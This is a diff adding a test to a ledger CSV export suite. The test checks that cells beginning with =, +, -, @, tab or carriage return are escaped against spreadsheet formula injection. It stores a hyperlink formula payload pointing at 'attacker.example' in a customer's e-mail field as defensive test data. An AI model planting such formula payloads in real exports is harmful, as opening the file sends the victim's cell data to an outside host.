@@ -133,3 +133,28 @@ test('the export reads the ledger in batches without losing or repeating an entr
   expect(batched.slice(0, paged.entries.length)).toEqual(paged.entries.map((e: Entry) => e.payment_id));
   expect(batched).toHaveLength(paged.totals.entries);
 });
+
+test('CSV cells a spreadsheet would run as a formula start with an apostrophe; amounts stay numbers', async () => {
+  // Text a customer chose: sign-up takes an e-mail starting with + or -, and older rows,
+  // the CLI or another tool may hold anything; the export must not trust either.
+  const shopper = await createCustomer(t.handle.db, 'TX');
+  const { orderId } = await buyFreshGroup(t.app, t.handle.db, shopper, await addCard(t.app, shopper.token), 1);
+  const charge = (await call('GET', '/api/admin/ledger?kind=charge&page_size=100')).body.data.entries.find(
+    (e: Entry) => e.order_id === orderId,
+  ) as Entry;
+
+  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+    const email = `${start}hyperlink("http://attacker.example/?"&a1)${shopper.id}@example.com`;
+    await t.handle.db.updateTable('customers').set({ email }).where('id', '=', shopper.id).execute();
+    const res = await t.app.inject({
+      method: 'GET',
+      url: '/api/admin/ledger.csv?kind=charge',
+      headers: { authorization: adminToken },
+    });
+    // One row per entry; a cell holding a CR is quoted, so rows still end at line feeds.
+    const row = res.body.split('\n').find((line) => line.startsWith(`${charge.payment_id},`));
+    const cell = `'${email}`.replaceAll('"', '""');
+    expect(row).toContain(`,${(charge.amount_cents / 100).toFixed(2)},`);
+    expect(row).toContain(`,"${cell}",`);
+  }
+});
